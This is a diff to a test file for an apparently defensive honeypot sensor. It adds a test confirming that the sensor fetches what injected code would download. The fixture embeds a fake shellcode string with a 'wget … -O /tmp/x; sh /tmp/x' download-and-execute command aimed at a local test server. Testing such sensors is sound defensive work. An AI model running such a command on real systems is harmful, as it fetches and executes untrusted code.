@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import hashlib
 import json
 import os
 from pathlib import Path
@@ -12,10 +13,12 @@ import pytest
 from eudaemon.events import Event, IdSource
 from eudaemon.events.catalogue import LoginTried
 from eudaemon.evidence import facts
+from eudaemon.evidence.model import Evidence
 from eudaemon.sensor.inbox import FILE_BYTES_MAX, FILES_MAX, Inbox, hand_in
 from evidence.reports import evidence
 from sensor.farm import farm
 from sensor.harness import running
+from sensor.test_fetching import LAB, site
 
 
 async def test_an_alert_reaches_the_farm_with_its_artefacts(tmp_path: Path) -> None:
@@ -37,6 +40,21 @@ async def test_an_alert_reaches_the_farm_with_its_artefacts(tmp_path: Path) -> N
     assert it.missing == []
 
 
+async def test_what_the_injected_code_would_download_is_fetched(tmp_path: Path) -> None:
+    """So a catch in a possessed process ends as one of the sensor's own: with the binary."""
+    sample = bytes(range(256)) * 9
+    async with site(x=sample) as it, running(tmp_path, fetch=LAB) as sensor:
+        code = b"\x90\x90\x0f\x05/bin/sh -c 'wget " + it.url.encode() + b"/x -O /tmp/x; sh /tmp/x'\0"
+        one = evidence()
+        one = Evidence(one.report, {**one.files, "code.bin": code})
+        told = facts.events(one, IdSource(os.urandom))
+        assert hand_in(tmp_path / "inbox", one.report.id, told, facts.artefacts(one))
+        (finished,) = await sensor.until("download.finished")
+    assert finished.fact.outcome == "ok"  # type: ignore[attr-defined]
+    assert finished.fact.sha256 == hashlib.sha256(sample).hexdigest()  # type: ignore[attr-defined]
+    assert (finished.session, finished.attacker) == (told[0].session, told[0].attacker)
+
+
 def test_what_came_from_no_peer_is_no_session() -> None:
     told = facts.events(evidence(peer="", kind="stdin"), IdSource(os.urandom))
     assert [event.fact.kind for event in told] == ["control.hijacked", "artefact.kept", "artefact.kept"]
@@ -49,7 +67,7 @@ class Taken:
     def __init__(self, folder: Path) -> None:
         self.lines: list[bytes] = []
         self.commits = 0
-        self.inbox = Inbox(folder, "me", self.lines.append, lambda data: None, self._commit)
+        self.inbox = Inbox(folder, "me", self.lines.append, lambda data: None, self._commit, lambda *_: None)
         self.inbox.open()
 
     async def _commit(self) -> None:
